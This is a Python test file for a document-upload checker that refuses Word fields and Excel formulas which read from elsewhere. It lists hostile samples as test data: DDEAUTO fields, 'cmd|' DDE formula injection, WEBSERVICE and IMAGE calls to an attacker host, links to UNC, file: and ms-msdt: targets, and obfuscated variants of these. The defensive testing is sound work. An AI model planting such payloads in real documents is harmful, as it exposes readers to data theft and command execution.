"""What Word and Excel files may have filled in by themselves, and what of it would reach out of them."""

import re
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cse_portal.files import FileRefused, inspect
from cse_portal.files.fields import FieldActs, check
from cse_portal.files.formulas import reaches
from tests.factories.documents import excel, word
from tests.unit.files.hostile import FIELD, SHEET

BEGIN, MIDDLE, END = (
    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
)
CHOICE = (
    '<mc:AlternateContent xmlns:mc="mc"><mc:Choice Requires="x">{}</mc:Choice>'
    "<mc:Fallback>{}</mc:Fallback></mc:AlternateContent>"
)


def code(text: str) -> str:
    """A piece of a field's code."""
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def is_taken(markup: str) -> bool:
    """Whether a letter with this in its header is."""
    with suppress(FileRefused):
        return bool(inspect("letter.docx", word({"word/header1.xml": FIELD.format(markup)})))
    return False


def field(*pieces: str) -> str:
    return BEGIN + "".join(pieces) + MIDDLE + "<w:r><w:t>1</w:t></w:r>" + END


@pytest.mark.parametrize(
    "text",
    [
        " PAGE ", r"PAGE\* MERGEFORMAT", r' TOC \o "1-3" \h \z \u ', r" PAGEREF _Toc123 \h ", " NUMPAGES ",
        r' HYPERLINK "https://www.example.org/hidden/link/import" \t "_blank" ', r' HYPERLINK \l "_Toc123" ',
        r' HYPERLINK "mailto:duty@example.org" \o "Note: the duty desk" ',
        r' HYPERLINK \n "https://www.example.org" \o "Note: a window" ', r" REF _Ref12 \h ",
        r' DATE \@ "d MMMM yyyy" ',
        ' ADDIN ZOTERO_ITEM CSL_CITATION {"title":"The link between: DDE, import and database"} ', " FORMTEXT ",
        " MERGEFIELD Name ", ' QUOTE "1 May" ', ' IF 1 = 1 "yes" "no" ', " =SUM(ABOVE) ",
        r" SEQ Table \* ARABIC ", ' XE "link road" ', "",
    ],
)  # fmt: skip
def test_what_an_ordinary_letter_fills_in_is_taken(text: str) -> None:
    quoted = text.replace('"', "&quot;")
    assert is_taken(field(code(text)))
    assert is_taken(f'<w:fldSimple w:instr="{quoted}"><w:r><w:t>1</w:t></w:r></w:fldSimple>')


@pytest.mark.parametrize(
    "text",
    [
        r'LINK Excel.Sheet.12 "\\\\evil.example\\s\\a.xlsx" "Sheet1!R1C1" \a \f 0', r'IMPORT "\\\\evil.example\\a.png"',
        r'DATABASE \d "\\\\evil\\a.mdb" \c "q" \s "select"', r'RD "\\\\evil\\a.docx"', 'INCLUDE "http://x"', "EMBED x",
        "INCLUDETEXT x", r"INCLUDEPICTURE\d x", 'dde"cmd" x', "DDEAUTO x", "PRINT x", "CONTROL x",
        '"PAGE"', "\u00a0DDEAUTO x", "PAGE\u200bDDEAUTO x", "SOMETHING", r'HYPERLINK "file:///c:/x"',
        r'HYPERLINK \t "_blank" "\\\\evil\\s"', r"HYPERLINK \\\\evil\\s", "HYPERLINK javascript:alert(1)",
        'HYPERLINK "ms-msdt:x"', r'HYPERLINK \n "file:///c:/x"', r'HYPERLINK \m "\\\\evil\\s\\a.exe"',
        r'HYPERLINK \M \n "file:///c:/x" \o "a"', r'HYPERLINK \h "file:///c:/x"', r'HYPERLINK \o "a" "file:///c:/x"',
        r'HYPERLINK \o "a\" \l " file:///c:/x "z"', r'HYPERLINK \t "a\" \o " \\\\evil\\s "z"',
        r'HYPERLINK \o "a\\" \l " file:///c:/x "z"',
    ],
)  # fmt: skip
def test_what_reads_from_elsewhere_or_is_not_known_is_refused(text: str) -> None:
    quoted = text.replace('"', "&quot;")
    assert not is_taken(field(code(text)))
    assert not is_taken(field(*(code(letter) for letter in text)))
    assert not is_taken(BEGIN + code(text))
    assert not is_taken(f'<w:fldSimple w:instr="{quoted}"/>')


def test_a_field_within_another_may_give_its_words_but_not_its_code() -> None:
    inner = field(code(" MERGEFIELD x "))
    assert is_taken(BEGIN + code(" IF ") + inner + code(' = "a" "b" "c" ') + MIDDLE + END)
    assert is_taken(field(code(' TOC \\o "1-3" ')).replace("<w:r><w:t>1</w:t></w:r>", inner + inner))
    assert not is_taken(BEGIN + inner + code("x") + MIDDLE + END)
    assert not is_taken(BEGIN + code(" IF ") + field(code("DDEAUTO x")) + MIDDLE + END)


def bookmark(name: str, words: str = "") -> str:
    """A place of the letter with a name."""
    return f'<w:bookmarkStart w:id="0" w:name="{name}"/>{words}<w:bookmarkEnd w:id="0"/>'


def test_a_letter_asks_for_the_childs_name_once_and_says_it_again() -> None:
    """Maya's letter to the parents of Robyn: Word writes REF with the name of a bookmark, or that name alone."""
    asks = field(code(' ASK ClientName "Whose child is it?" '))
    for again in (" ClientName ", r" clientname \* MERGEFORMAT ", r" CLIENTNAME \h \* Upper"):
        assert is_taken(asks + field(code(again)))
        assert is_taken(field(*(code(letter) for letter in again)) + bookmark("ClientName", asks))
        assert is_taken(field(code(again)) + field(code('SET "ClientName" "Robyn"')))
        assert is_taken(f'<w:fldSimple w:instr="{again}"/>' + bookmark("ClientName"))
        assert not is_taken(field(code(again)))
        assert not is_taken(field(code(again)) + field(code("SET ClientNames x")) + bookmark("Client"))
    body = FIELD.format(bookmark("ClientName"))
    head = FIELD.format(field(code(" ClientName ")))
    assert inspect("letter.docx", word({"word/header1.xml": head, "word/footer1.xml": body}))


@pytest.mark.parametrize(
    "text",
    [
        "DDEAUTO", "dde", r"INCLUDETEXT \* MERGEFORMAT", "x cmd", 'x "c:/x"', r'x \d "c:/x"', r"x \* a b",
        r"x \\\\evil\s", r'x \@ "\\\\evil"', "x-y", "x" * 41,
    ],
)  # fmt: skip
def test_a_bookmark_makes_no_field_that_reads_from_elsewhere(text: str) -> None:
    name = text.split()[0]
    assert not is_taken(bookmark(name) + field(code(f" {text} ")))
    assert not is_taken(field(code(f" SET {name} 1 ")) + field(code(f" {text} ")))


@pytest.mark.parametrize("inner", ["QUOTE 68 68 69", 'QUOTE "DDE"', "ClientName"])
def test_what_a_field_gives_is_no_code_though_it_says_letters_or_a_bookmark(inner: str) -> None:
    assert not is_taken(bookmark("ClientName") + BEGIN + field(code(inner)) + code(" cmd") + MIDDLE + END)


@pytest.mark.parametrize(
    "inner", ['QUOTE "http://x"', 'IF 1 = 1 "file:" "x"', "REF Where", "MERGEFIELD Mail", "PAGE"]
)
def test_a_link_whose_target_another_field_gives_is_refused(inner: str) -> None:
    """Where it leads is what that field makes of it when the letter is opened, and nobody has read that."""
    simple = f"""<w:fldSimple w:instr='{inner}'><w:r><w:t>https://example.org</w:t></w:r></w:fldSimple>"""
    for within in (field(code(inner)), BEGIN + code(inner) + END, simple, f"<w:ins>{simple}</w:ins>"):
        assert not is_taken(BEGIN + code(" HYPERLINK ") + within + MIDDLE + END)
        assert not is_taken(BEGIN + code("HYPER") + code('LINK "') + within + code('"') + END)
        assert not is_taken(
            BEGIN + code('HYPERLINK "https://example.org/') + within + code('" ') + MIDDLE + END
        )
        assert not is_taken(BEGIN + code(" HYPERLINK ") + within)
        whole = BEGIN + code(" HYPERLINK ") + within + MIDDLE + END
        assert not is_taken(BEGIN + code(' IF 1 = 1 "') + whole + code('" "x" ') + MIDDLE + END)
        assert not is_taken(bookmark("HYPER") + BEGIN + code("HYPER") + within + MIDDLE + END)


def test_a_link_in_plain_words_may_show_and_be_shown_by_other_fields() -> None:
    """A line of a table of contents, and a link that depends on something: as Word writes both."""
    link = code(r' HYPERLINK \l "_Toc1" ')
    page = field(code(r" PAGEREF _Toc1 \h "))
    assert is_taken(BEGIN + link + MIDDLE + page + END)
    assert is_taken(BEGIN + link + MIDDLE + '<w:fldSimple w:instr=" PAGE "/>' + END)
    web = field(code(' HYPERLINK "https://example.org" '))
    assert is_taken(BEGIN + code(' IF 1 = 1 "') + web + code('" "x" ') + MIDDLE + END)
    assert is_taken(BEGIN + code(" IF ") + page + code(' = 1 "a" "b" ') + MIDDLE + END + web)


@pytest.mark.parametrize(
    "markup",
    [
        field(CHOICE.format(code("PAGE "), ""), code("DDEAUTO x")),
        field(CHOICE.format(code("PAGE "), code("DDEAUTO x"))),
        BEGIN + CHOICE.format(code("PAGE ") + MIDDLE, "") + code("DDEAUTO x") + END,
        CHOICE.format(BEGIN + code("PAGE "), code("DDEAUTO x") + END),
        field('<z:z xmlns:z="z">' + code("PAGE ") + "</z:z>", code("DDEAUTO x")),
        field('<z:instrText xmlns:z="z">PAGE </z:instrText>', code("DDEAUTO x")),
        '<z:fldSimple xmlns:z="z" z:instr="PAGE"/>',
        '<w:fldSimple xmlns:z="z" w:instr="DDEAUTO x" z:instr="PAGE"/>',
        field("<w:del><w:r><w:delInstrText>PAGE </w:delInstrText></w:r></w:del>", code("DDEAUTO x")),
        field(code("D"), "<w:del><w:r><w:delInstrText>x</w:delInstrText></w:r></w:del>", code("DEAUTO x")),
        field("<w:ins>" + code("PAGE ") + "</w:ins>", code("DDEAUTO x")),
        code("PAGE ") + field(code("DDEAUTO x")),
        field(code("PAGE<z/>")),
    ],
)  # fmt: skip
def test_a_harmless_word_that_a_program_passes_over_hides_none_that_acts(markup: str) -> None:
    assert not is_taken(markup)


def test_a_box_drawn_twice_has_its_numbers_of_pages_and_changes_may_be_tracked() -> None:
    box = '<v:textbox xmlns:v="v"><w:txbxContent>' + field(code(" PAGE ")) + "</w:txbxContent></v:textbox>"
    assert is_taken("<w:r>" + CHOICE.format(box, box) + "</w:r>")
    assert is_taken(field(code(" TOC ")).replace("<w:r><w:t>1</w:t></w:r>", CHOICE.format(box, box)))
    assert is_taken(field(code(" DATE "), "<w:ins>" + code(r'\@ "yyyy"') + "</w:ins>"))


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:A3)", "'Jan:Dec'!A1", "'Zoë''s list'!A1", "Table1[[#This Row],[Either/or | both]]", "[0]!Names",
        '"see IMAGE (page 2), http://x or a|b"', "'a|b'!A1+'c \"d\" e'!A1", 'HYPERLINK("https://example.org","x")',
        'HYPERLINK("#\'Sheet 2\'!A1","Note: below")', 'HYPERLINK("mailto:"&A1,"x:y")',
        'IF(A1="x:","a",HYPERLINK("#b"))', 'HYPERLINK("https://a.example/?at="&TEXT(A1,"hh:mm"))',
        'HYPERLINK(CONCATENATE("https://","example.org"),"Note: x")', '"say HYPERLINK(""file:///c:/x"")"',
        'HYPERLINK("https://a.example","b")&IF(A1="","c:","d:")',
        "Table1[No'#]&\"'\"", "T[[#This Row],[Child''s 6'' / a'[b']]]&\"'\"", "T[[a\"b]]&\"x|y\"", "T[@[a b]]",
        "SUM( T[ [#All], [a]:[b'#|] ] )", "'a|b''c'!A1",
        "IMAGES(A1)", "A1/B1", "'[0]x'!A1", "Sheet1!A1*Table1[a]+Sheet2!B1", "RECALL(A1)",
    ],
)  # fmt: skip
def test_what_an_ordinary_workbook_calculates_is_taken(formula: str) -> None:
    assert not reaches(formula)


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://e/")', '_xlfn.IMAGE("https://evil.example/p?"&A1)', '_xlfn._xlws.STOCKHISTORY("MSFT")',
        "cmd|'/c calc'!A0", "'cmd'|'/c calc'!A0", r"'\\evil\s\[a.xlsx]S'!A1", r"\\evil\s\[a.xlsx]S!A1", "[1]Sheet1!A1",
        "'[a.xlsx]S'!A1", "'https://evil.example/[a.xlsx]S'!A1", "'c:\\x.xlsx'!Name", 'image ("x")', "_xlws.PY(1)",
        "'a\"b'!A1+WEBSERVICE(A1)&'c\"d'!A1", '"x"&CALL("x","y")', 'REGISTER.ID("x")', 'RTD("x",,"y")',
        "SQL.REQUEST(1)", 'CUBEVALUE("x")', r'HYPERLINK("\\evil\s\x.exe","Open")', 'HYPERLINK( "file:///c:/x" )',
        'hyperlink ("fi"&"le:///c:/x","Open")', r'IF(A1,HYPERLINK(IF(B1,"#a","\\evil\s")),"b")',
        r'HYPERLINK({"#a","c:\x.exe"},"Open")', r'HYPERLINK("[\\evil\s\a.xlsx]S!A1","Open")',
        """IF(Table1[No'#]="'","",_xlfn.WEBSERVICE(A1)&"")""", """IF(Table1[No'#]="'","",_xlfn.IMAGE(A1,"")&"")""",
        """Table1[[#This Row],[No'#]]&"'"&_xlfn.WEBSERVICE(A1)&"x\"""", 'T[[a"b]]&WEBSERVICE(A1)&"x"',
        """T[[a"b]]&cmd|'/C calc'!A0&"x\"""", 'T[[a"b]]&[1]!x&"c"', "T[[a\"b]]&'c:\\[x.xls]S'!A1&\"c\"",
        r"""T[a'[b]&HYPERLINK("c:\x.exe","O'Brien")""", "T[a'#]&cmd|'!x'!A0", r"'c:\x''.xls'!Name",
        """T["a&WEBSERVICE(A1)&"x\"""", r'[HYPERLINK([a]&"c:\x.exe")', "A1+[cmd|x!A0", r"'a'c:\x.xls'!B",
        r'HYPERLINK(T1[a(],"x")&HYPERLINK("c:\x.exe")', r'HYPERLINK(""" "&"x")&HYPERLINK("javascript:x")',
    ],
)  # fmt: skip
def test_a_formula_that_reaches_out_of_the_workbook_is_refused(formula: str) -> None:
    assert reaches(formula)
    written = formula.replace("&", "&amp;")
    for name in ("f", "x:formula1 xmlns:x='y'"):
        part = SHEET.format(f"<{name}>{written}</{name.split()[0]}>")
        with pytest.raises(FileRefused, match="reads data from elsewhere"):
            inspect("table.xlsx", excel({"xl/worksheets/sheet1.xml": part}))


@given(st.text(st.sampled_from("'\"[]#|(,;{ab \n")))
def test_whatever_a_column_is_called_hides_nothing_that_stands_beside_it(name: str) -> None:
    """A table of one agency's list may have any heading, and Excel writes it with a `'` before each of `[ ] # '`."""
    written = re.sub(r"[\[\]#']", r"'\g<0>", name)
    for column in (f"T[{written}]", f"T[[#This Row],[{written}]]"):
        assert not reaches(f"SUM({column},\"'\")&A1&'O''Brien'!A1")
        for acts in (
            'WEBSERVICE(A1)&"x"', "cmd|'/C calc'!A0", r"'c:\x.xls'!A1", '[1]!x', r'HYPERLINK("c:\x.exe","O\'Brien")'
        ):  # fmt: skip
            assert reaches(f'{column}&{acts}&"\'"')


@given(st.text(st.sampled_from("'\"[]!|\\/0aA(). "), max_size=40))
def test_no_formula_is_too_odd_to_be_looked_at(formula: str) -> None:
    assert reaches(formula) in (True, False)
    with suppress(FieldActs):
        check(formula)
